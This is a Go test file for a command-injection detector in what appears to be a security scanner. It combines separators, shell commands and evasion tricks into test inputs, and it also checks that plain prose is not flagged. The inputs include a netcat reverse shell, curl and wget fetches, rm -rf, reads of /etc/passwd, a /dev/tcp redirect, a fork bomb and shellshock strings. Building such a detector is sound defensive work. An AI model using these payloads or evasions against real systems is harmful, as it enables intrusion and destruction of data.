package cmdi_test

import (
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/tangoguard/tangoguard/internal/detect/cmdi"
	"github.com/tangoguard/tangoguard/internal/detect/detecttest"
	"github.com/tangoguard/tangoguard/internal/detect/scan"
)

// The parts of an attack: what stands before the command, the command, how it hides, what stands behind.
var (
	contexts = []string{"", "gift.pdf", "10.0.0.7", "O'Brien'", `card"`, "a)", "a'))", "order_42 ", "x@gifts.example"}
	openings = [][2]string{
		{";", ""}, {"; ", ""}, {"|", ""}, {" | ", ""}, {"||", ""}, {" || ", ""}, {"&", "&"}, {" & ", ""}, {"&&", ""}, {" && ", ""},
		{"\n", ""}, {"\r\n", "\n"}, {"%0a", "%0a"}, {"%26%26", ""}, {"%7C", ""}, {"$(", ")"}, {"`", "`"}, {";", ";"}, {"|", "|"}, {"; ", " #"},
		{";", "'"}, {"|", `"`}, {";(", ")"}, {"<(", ")"},
	}
	commands = []string{
		"id", "whoami", "ls -la", "cat /etc/passwd", "uname -a", "sleep 10", "ping -c 4 10.0.0.8", "curl http://198.51.100.7/g",
		"wget 198.51.100.7/g", "nc -e /bin/sh 198.51.100.7 9001", "net user", "dir C:\\", "type C:\\Windows\\win.ini", "ifconfig",
		"/bin/sh -c id", "/usr/bin/id", "python3 -c 'print(1)'", "powershell -enc SQBkAA==", "nslookup g.example", "rm -rf /srv/gifts",
		"find / -name x", "ps aux", "netstat -an", "touch /tmp/gift", "echo gift|base64", "tasklist /v", "head -1 /etc/group",
	}
	// Those that work on any command: each changes the first word or the blanks.
	disguises = []struct {
		name string
		f    func(string) string
	}{
		{"plain", func(c string) string { return c }},
		{"quotes", func(c string) string { return first(c, func(w string) string { return w[:1] + "''" + w[1:] }) }},
		{"double quotes", func(c string) string {
			return first(c, func(w string) string { return w[:1] + `"` + w[1:2] + `"` + w[2:] })
		}},
		{"backslash", func(c string) string { return first(c, backslash) }},
		{"caret", func(c string) string { return first(c, func(w string) string { return w[:1] + "^" + w[1:] }) }},
		{"parameter", func(c string) string { return first(c, func(w string) string { return w[:1] + "$@" + w[1:] }) }},
		{"IFS", func(c string) string { return strings.ReplaceAll(c, " ", "${IFS}") }},
		{"IFS with parameter", func(c string) string { return strings.ReplaceAll(c, " ", "$IFS$9") }},
		{"plus", func(c string) string { return strings.ReplaceAll(c, " ", "+") }},
		{"tab", func(c string) string { return strings.ReplaceAll(c, " ", "\t") }},
	}
)

// backslash puts one before a letter that makes no escape with it: in the text of a URL, escapes and percent
// signs are decoded together.
func backslash(w string) string {
	i := strings.IndexAny(w, "hilmopsw")
	if i < 0 {
		return w
	}
	return w[:i] + `\` + w[i:]
}

func first(c string, f func(string) string) string {
	w, rest, _ := strings.Cut(c, " ")
	if len(w) < 2 || w[0] == '/' {
		return c
	}
	if rest == "" && !strings.Contains(c, " ") {
		return f(w)
	}
	return f(w) + " " + rest
}

// TestVariations puts commands behind separators, in disguise and out of it, into the places where text lands.
// Each combination is an attack; a seeded sample of them is tried, one of each pair at least.
func TestVariations(t *testing.T) {
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	r := rand.New(rand.NewPCG(seed, 0))
	d := cmdi.Detector()
	misses := 0
	for _, o := range openings {
		for _, c := range commands {
			for _, g := range disguises {
				context := contexts[r.IntN(len(contexts))]
				text := context + o[0] + g.f(c) + o[1]
				if g.name == "plus" {
					text = strings.ReplaceAll(text, " ", "+")
				}
				if len(detecttest.Inspect(t, d, text)) == 0 {
					if misses++; misses <= 20 {
						t.Errorf("%s, not found: %q", g.name, text)
					}
				}
			}
		}
	}
	if misses > 0 {
		t.Errorf("%d of %d not found", misses, len(openings)*len(commands)*len(disguises))
	}
}

// TestWordsOfProse: the same separators, with words that are programs too.
func TestWordsOfProse(t *testing.T) {
	words := []string{"cat", "find", "who", "date", "time", "sort", "less", "more", "head", "tail", "test", "kill", "touch", "look", "watch", "mail",
		"host", "set", "top", "last", "cut", "paste", "join", "split", "file", "type", "copy", "move", "start", "print", "make", "sleep", "curl",
		"dir", "fold", "mount", "screen", "python", "ruby", "perl", "bash", "java", "finger", "history", "groups", "free", "man", "at"}
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	r := rand.New(rand.NewPCG(seed, 0))
	before := []string{"Happy birthday", "bring the cake", "Tom and Ben", "we like it", "call me at home", "Gruß von mir", "see you on Friday"}
	after := []string{"", " lovers", " of the year", " and dinner", "!", "?", ".", " me home", " a gift", " 5 cards", ", then go"}
	joins := []string{"; ", " & ", " | ", " || ", " && ", " / ", " - ", ", "}
	d := cmdi.Detector()
	for range 4000 {
		text := before[r.IntN(len(before))] + joins[r.IntN(len(joins))] + words[r.IntN(len(words))] + after[r.IntN(len(after))]
		if found := detecttest.Inspect(t, d, text); found != nil {
			t.Errorf("reported as %v: %q", detecttest.Rules(found), text)
		}
	}
}

// TestRules: each rule has a sentence that only it reports.
func TestRules(t *testing.T) {
	detecttest.Table(t, cmdi.Detector(), detecttest.Rows{
		{"a command line alone", "cat /etc/group", "command"},
		{"a command behind a semicolon", "gift; id", "chained-command"},
		{"a command behind a spelt-out line end", `\nid\n`, "chained-command"},
		{"a command in backticks", "`id`", "substituted-command"},
		{"a command in parentheses", "$(hostname)", "substituted-command"},
		{"the shell's separator", "a$IFS", "shell-variable"},
		{"a slice of a variable", "${PATH:0:1}", "shell-variable"},
		{"a slice of a variable of cmd.exe", "%PATH:~0,1%", "shell-variable"},
		{"a variable set and run", "G=id;$G", "variable-command"},
		{"a function in the place of a value", "() { :;}; gift", "shellshock"},
		{"bash's socket", "gift >& /dev/tcp/198.51.100.7/9", "network-redirect"},
		{"a file that is read", "gift</etc/group", "file-redirect"},
		{"arithmetic of the shell", "gift$((6*7))", "arithmetic"},
		{"a function that forks", "g(){ g|g& };g", "fork-bomb"},
		{"an option that runs something", "--use-askpass=gift", "option-injection"},
		{"an object of PowerShell", "(New-Object Gift)", "powershell"},
	})
}

// TestSpan: the span is the command, not the text around it.
func TestSpan(t *testing.T) {
	const text = "gift.pdf; cat /etc/group"
	found := detecttest.Inspect(t, cmdi.Detector(), text)
	want := scan.Finding{Class: cmdi.Class, Rule: "chained-command", Start: 8, End: len(text)}
	if len(found) != 1 || found[0] != want {
		t.Errorf("%v, not %v", found, want)
	}
}
